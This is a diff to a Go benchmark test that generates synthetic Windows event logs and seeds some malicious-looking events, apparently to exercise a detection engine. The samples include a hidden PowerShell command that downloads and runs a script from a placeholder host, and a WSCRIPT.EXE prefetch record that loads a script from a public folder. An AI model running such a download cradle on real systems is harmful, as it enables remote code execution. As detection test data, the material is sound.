@@ -35,6 +35,7 @@ func BenchmarkMillionEvents(b *testing.B) {
 			e.Process, e.ParentProcess = images[i%len(images)], `C:\Windows\explorer.exe`
 			e.CommandLine = fmt.Sprintf("%s /c echo %d", e.Process, i)
 			if i%1000 == 0 {
+				e.Process = images[4]
 				e.CommandLine = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')"
 			}
 		case 6:
@@ -47,6 +48,11 @@ func BenchmarkMillionEvents(b *testing.B) {
 		case 8:
 			e.Source, e.Process = "prefetch", images[i%len(images)]
 			e.Data = map[string]any{"executable": "APP.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\NTDLL.DLL`}}
+			if i%1000 == 8 {
+				e.Process = `\VOLUME{1}\WINDOWS\SYSTEM32\WSCRIPT.EXE`
+				e.Data = map[string]any{"executable": "WSCRIPT.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT.DLL`,
+					`\VOLUME{1}\USERS\PUBLIC\A.JS`}}
+			}
 		default:
 			e.EventID, e.Provider = 4624, "Microsoft-Windows-Security-Auditing"
 		}
